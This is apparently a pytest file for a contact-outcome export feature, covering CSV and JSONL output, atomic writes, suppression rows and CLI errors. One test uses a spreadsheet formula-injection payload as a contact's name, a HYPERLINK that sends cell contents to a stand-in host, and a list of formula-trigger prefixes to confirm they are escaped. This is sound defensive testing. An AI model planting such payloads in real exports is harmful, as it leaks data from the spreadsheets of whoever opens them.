"""Exports: whole or not there, readable by spreadsheets and programs, and nothing in them runs."""

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from app import runtime
from app.cli.main import main
from app.contacts.suppression import suppress
from app.db import new_id
from app.exports import files
from app.outcomes.models import Outcome
from app.runtime import Runtime
from tests.waves.small_wave import SmallWave, launch_wave

ON_SQLITE = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)

AT = datetime(2026, 11, 22, 10, tzinfo=UTC)
EVIDENCE: list[dict[str, Any]] = [{"what": "answer:nps", "at": AT.isoformat(), "detail": "9 (sms)"}]


def judged(rt: Runtime, verdict: str = "reengaged", evidence: Any = EVIDENCE, **words: str) -> SmallWave:
    """A wave of one person whose verdict is this."""
    wave = launch_wave(rt, ["ada"], first_name=words.get("first_name", "Ada"))
    with runtime.session() as db:
        contact = wave.contacts["ada"]
        facts = {"verdict": verdict, "rule": "answered", "evidence": evidence, "decided_at": AT}
        db.add(Outcome(wave_id=wave.id, contact_id=contact.id, **facts))
    return wave


def save(
    rt: Runtime, path: Path, what: str = "all", file_format: str = "csv", wave_id: str | None = None
) -> int:
    key = rt.settings.suppression_key
    with runtime.reading() as db:
        return files.save(db, path, what, wave_id=wave_id, file_format=file_format, suppression_key=key)


def rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def test_every_row_carries_its_evidence(rt: Runtime, tmp_path: Path) -> None:
    wave, other = judged(rt, first_name="Nicolò è così"), judged(rt, "removable")
    file = tmp_path / "new folder" / "out.csv"
    assert save(rt, file, "reengaged") == 1
    assert file.read_bytes().startswith(b"\xef\xbb\xbf"), "or a spreadsheet breaks the accents"
    [row] = rows(file)
    contact = wave.contacts["ada"]
    assert tuple(row) == files.COLUMNS
    assert (row["first_name"], row["email"], row["phone"]) == ("Nicolò è così", contact.email, contact.phone)
    assert (row["outcome"], row["rule"]) == ("reengaged", "answered")
    assert row["evidence"] == "2026-11-22T10:00 answer:nps 9 (sms)"
    assert row["decided_at"] == "2026-11-22T10:00:00+00:00"
    assert save(rt, file, "all", "jsonl") == 2
    told = [json.loads(line) for line in file.read_text("utf-8").splitlines()]
    assert [tuple(one) for one in told] == [files.COLUMNS] * 2
    assert "Nicolò è così" in file.read_text("utf-8"), "people read these files too"
    assert {one["contact_id"] for one in told} == {contact.id, other.contacts["ada"].id}
    assert save(rt, file, wave_id=other.id) == 1
    assert [one.name for one in file.parent.iterdir()] == ["out.csv"]


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_formula_in_a_name_does_not_run(rt: Runtime, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1;"clicca")'
    judged(rt, first_name=evil)
    save(rt, tmp_path / "out.csv")
    [row] = rows(tmp_path / "out.csv")
    assert row["first_name"] == f"'{evil}"
    assert row["phone"].startswith("+39347")
    save(rt, tmp_path / "out.jsonl", file_format="jsonl")
    assert json.loads((tmp_path / "out.jsonl").read_text("utf-8"))["first_name"] == evil


@pytest.mark.parametrize(
    ("cell", "kept"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("  =1+1", "'  =1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("＝1+1", "'＝1+1"),
        ("+39347000111", "+39347000111"),
        ("+39347000111+1", "'+39347000111+1"),
        ("+", "'+"),
        (None, ""),
        (9, "9"),
        (" D'Àngelo & Co = bene", " D'Àngelo & Co = bene"),
    ],
)
def test_what_a_spreadsheet_would_run_is_quoted(cell: object, kept: str) -> None:
    assert files.safe(cell) == kept


def test_suppressed_contacts_with_why_and_since_when(rt: Runtime, tmp_path: Path) -> None:
    wave = launch_wave(rt, ["ada", "ugo"])
    held = wave.messages["ada"]
    with runtime.session() as db:
        suppress(db, [(held.channel, held.address_hash)], reason="one_click", source="one_click", at=AT)
    assert save(rt, tmp_path / "out.csv", "suppressed") == 1
    [row] = rows(tmp_path / "out.csv")
    assert (row["contact_id"], row["outcome"], row["rule"]) == (
        wave.contacts["ada"].id,
        "suppressed",
        "one_click",
    )
    assert row["evidence"] == "2026-11-22T10:00 email one_click (one_click)"


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_an_export_that_breaks_off_leaves_the_last_one_alone(rt: Runtime, tmp_path: Path) -> None:
    judged(rt)
    folder = tmp_path / "exports"
    save(rt, folder / "out.csv")
    before = (folder / "out.csv").read_bytes()
    judged(rt, evidence=[{"what": "no time"}])
    with pytest.raises(KeyError):
        save(rt, folder / "out.csv")
    assert (folder / "out.csv").read_bytes() == before
    assert [one.name for one in folder.iterdir()] == ["out.csv"], "and no half of a file"


def command(rt: Runtime, *words: str) -> Result:
    env = {"DATA_DIR": str(rt.settings.data_dir), "DATABASE_URL": rt.settings.database_url}
    done = CliRunner().invoke(main, ["export", *words], env=env)
    runtime.current().engine.dispose()
    runtime.install(rt)
    return done


@ON_SQLITE
def test_the_command_says_what_is_wrong_in_one_line(rt: Runtime, tmp_path: Path) -> None:
    wave = judged(rt)
    file = str(tmp_path / "out.csv")
    done = command(rt, "reengaged", "--wave", wave.id, "--out", file)
    assert (done.exit_code, done.stdout) == (0, f"1 rows in {file}\n")
    for words in (
        ["all", "--wave", new_id()],
        ["all", "--wave", "autunno"],
        ["everything"],
        ["all", "--format", "pdf"],
        ["all", "--out", "/proc/no/such/place.csv"],
        ["all", "--out", f"{file}/within-a-file.csv"],
    ):
        refused = command(rt, *words)
        assert refused.exit_code == 2, f"{words}: {refused.exception!r}"
        assert refused.stdout == ""
        assert 0 < len(refused.stderr) < 400
        assert "Traceback" not in refused.stderr
    done = command(rt, "all", "--format", "jsonl", "--out", "-")
    assert [json.loads(line)["outcome"] for line in done.stdout.splitlines()] == ["reengaged"]
